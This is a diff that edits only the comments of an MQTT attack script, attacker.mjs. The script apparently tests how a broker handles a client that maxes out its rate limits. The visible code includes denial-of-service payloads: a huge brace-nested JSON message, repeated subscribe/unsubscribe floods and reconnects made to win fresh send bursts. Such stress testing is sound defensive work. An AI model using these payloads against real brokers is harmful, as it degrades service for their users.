@@ -1,4 +1,4 @@
-// A controller that stays inside its limits and does its worst: `node attacker.mjs <attack> <port> <user name> <password>`.
+// A controller that uses its limits fully, to slow down the broker: `node attacker.mjs <attack> <port> <user name> <password>`.
 // It sends all that a connection may send at once, then as much as may be sent each second, until it is stopped.
 import { connect } from 'mqtt'
 
@@ -19,7 +19,7 @@ const strangers = () => ({
 const keys = (many) => Object.fromEntries(Array.from({ length: many }, (_, key) => [`k${key}`, 1]))
 const filters = () => Array.from({ length: 64 }, () => own(`services/${count++ % 256}`))
 
-/** What is sent over and over; a function makes a new one each time. */
+/** The packet that is sent again and again; a function makes a new one each time. */
 const ATTACKS = {
   filters: () => (count % 128 === 0 ? { subscribe: filters() } : { unsubscribe: filters() }),
   braces: { topic: own('osd'), payload: `{"data":[${'{},'.repeat(79_000)}0]}` },
@@ -42,7 +42,7 @@ const sizeOf = ({ topic = '', payload = '', subscribe, unsubscribe }) =>
   16
 
 function send(client, one) {
-  // What the broker says to it is not what is measured.
+  // The broker's answers are not measured.
   const ignore = () => undefined
   if (one.subscribe !== undefined) client.subscribe(one.subscribe, ignore)
   else if (one.unsubscribe !== undefined) client.unsubscribe(one.unsubscribe, ignore)
@@ -85,7 +85,7 @@ function enter() {
       }
       if (!again) return
       again = false
-      // A new connection would like to have a burst of its own.
+      // Tries to get a new burst by a new connection.
       setTimeout(() => {
         packets = BURST.packets
         bytes = BURST.bytes
